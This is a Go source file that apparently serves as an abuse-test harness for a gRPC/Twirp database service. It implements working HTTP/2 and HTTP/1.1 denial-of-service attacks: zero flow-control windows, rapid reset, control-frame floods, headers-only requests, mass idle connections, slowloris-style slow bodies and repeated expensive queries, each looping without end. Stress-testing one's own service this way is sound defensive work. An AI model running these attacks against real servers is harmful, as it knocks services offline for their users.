package main

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"net"
	"slices"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/protobuf/proto"

	databasev1 "github.com/osirose-new/database-service/rpc/osirose/database/v1"
)

const (
	grpcConnections = 20
	idleConnections = 10_000
	slowSockets     = 700
	fullListCallers = 16
)

// attack is a way to misuse the service. run attacks for ever, with one connection after the other.
type attack struct {
	name        string
	connections int
	run         func(h hostile)
}

var attacks = []attack{
	{"closed windows", grpcConnections, hostile.closedWindow},
	{"closed windows, Twirp", grpcConnections, hostile.closedTwirpWindow},
	{"headers without a body", grpcConnections, hostile.headersOnly},
	{"FULL lists", fullListCallers, hostile.fullLists},
	{"rapid reset", grpcConnections, hostile.rapidReset},
	{"control frames", grpcConnections, hostile.controlFrames},
	{"idle connections", idleConnections, hostile.idle},
	{"slow bodies", slowSockets, hostile.slowBody},
}

// hostile is a caller that attacks.
type hostile struct{ addr, user, key string }

// runAttack attacks until the process is killed.
func runAttack(args []string) error {
	i := slices.IndexFunc(attacks, func(a attack) bool { return len(args) == 4 && a.name == args[0] })
	if i < 0 {
		return fmt.Errorf("unknown attack %q", args)
	}
	h := hostile{addr: args[1], user: args[2], key: args[3]}
	var done sync.WaitGroup
	for range attacks[i].connections {
		done.Go(func() {
			for {
				attacks[i].run(h)
				time.Sleep(10 * time.Millisecond) // the next connection
			}
		})
	}
	done.Wait()
	return nil
}

// grpcConn is an HTTP/2 connection whose frames the attacker writes itself.
type grpcConn struct {
	*http2.Framer
	net.Conn
	out  *bufio.Writer
	next uint32
}

// dial opens a connection. What the server sends is read and ignored.
func (h hostile) dial(settings ...http2.Setting) (*grpcConn, error) {
	c, err := net.Dial("tcp", h.addr)
	if err != nil {
		return nil, err
	}
	g := &grpcConn{Conn: c, out: bufio.NewWriterSize(c, 32<<10), next: 1}
	g.Framer = http2.NewFramer(g.out, nil)
	g.AllowIllegalWrites = true
	go func() {
		_, _ = io.Copy(io.Discard, c)
		_ = c.Close()
	}()
	_, _ = g.out.WriteString(http2.ClientPreface)
	_ = g.WriteSettings(settings...)
	_ = g.WriteSettingsAck() // of the server's, which are on their way
	return g, g.out.Flush()
}

// open sends the headers of a request.
func (h hostile) open(g *grpcConn, path string) uint32 {
	return h.openAs(g, "/osirose.database.v1."+path, "application/grpc")
}

func (h hostile) openAs(g *grpcConn, path, contentType string) uint32 {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	fields := []string{":method", "POST", ":scheme", "http", ":authority", "x", ":path", path, "content-type", contentType, "te", "trailers"}
	if h.key != "" {
		fields = append(fields, "authorization", "Bearer "+h.key)
	}
	for i := 0; i < len(fields); i += 2 {
		_ = e.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1], Sensitive: true})
	}
	id := g.next
	g.next += 2
	_ = g.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true})
	return id
}

// message frames a message as gRPC does.
func message(m proto.Message) []byte {
	body, _ := proto.Marshal(m) // never fails for generated messages
	return append([]byte{0, 0, 0, byte(len(body) >> 8), byte(len(body))}, body...)
}

// closedWindow asks for large answers and takes nothing of them.
func (h hostile) closedWindow() {
	g, err := h.dial(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	for err == nil {
		id := h.open(g, "CharacterDbService/GetCharacterList")
		_ = g.WriteData(id, true, message(fullList(h.user)))
		err = g.out.Flush()
		time.Sleep(time.Millisecond) // more than 100 at once are refused
	}
}

func (h hostile) closedTwirpWindow() {
	body, _ := proto.Marshal(fullList(h.user)) // never fails for generated messages
	g, err := h.dial(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	for err == nil {
		id := h.openAs(g, "/twirp/osirose.database.v1.CharacterDbService/GetCharacterList", "application/protobuf")
		_ = g.WriteData(id, true, body)
		err = g.out.Flush()
		time.Sleep(time.Millisecond)
	}
}

// headersOnly begins requests and sends no message.
func (h hostile) headersOnly() {
	g, err := h.dial()
	for err == nil {
		for range 100 {
			h.open(g, "SessionService/GetSession")
		}
		err = g.out.Flush()
		time.Sleep(100 * time.Millisecond)
	}
}

// fullLists asks for the most expensive answer, as often as it gets one.
func (h hostile) fullLists() {
	request := wireRequest("CharacterDbService", "GetCharacterList", fullList(h.user))
	if h.key != "" {
		request = bytes.Replace(request, []byte("Host: x\r\n"), []byte("Host: x\r\nAuthorization: Bearer "+h.key+"\r\n"), 1)
	}
	w := wire{addr: h.addr}
	for {
		if a := w.call(request); a.code == wireRefused || a.code == wireLost {
			return
		}
	}
}

func (h hostile) rapidReset() {
	g, err := h.dial()
	for err == nil {
		id := h.open(g, "UserService/GetUser")
		_ = g.WriteData(id, true, message(&databasev1.GetUserRequest{UserId: h.user}))
		err = g.WriteRSTStream(id, http2.ErrCodeCancel)
	}
}

// controlFrames sends frames that carry nothing.
func (h hostile) controlFrames() {
	g, err := h.dial()
	if err != nil {
		return
	}
	id := h.open(g, "UserService/GetUser")
	for err == nil {
		_ = g.WriteData(id, false, nil)
		_ = g.WriteSettings()
		_ = g.WriteWindowUpdate(0, 1)
		err = g.WritePriority(id, http2.PriorityParam{Weight: 1})
	}
}

// idle opens a connection and keeps it.
func (h hostile) idle() {
	g, err := h.dial()
	if err == nil {
		_, _ = g.Read(make([]byte, 1)) // returns when the server closes it
		time.Sleep(time.Second)
	}
}

// slowBody begins a request and sends a byte of its body.
func (h hostile) slowBody() {
	c, err := net.Dial("tcp", h.addr)
	if err != nil {
		return
	}
	defer c.Close()
	text := "POST /twirp/osirose.database.v1.SessionService/GetSession HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n"
	if h.key != "" {
		text += "Authorization: Bearer " + h.key + "\r\n"
	}
	_, _ = io.Copy(c, strings.NewReader(text+"\r\n{"))
	_, _ = io.Copy(io.Discard, c) // until the server gives up
}
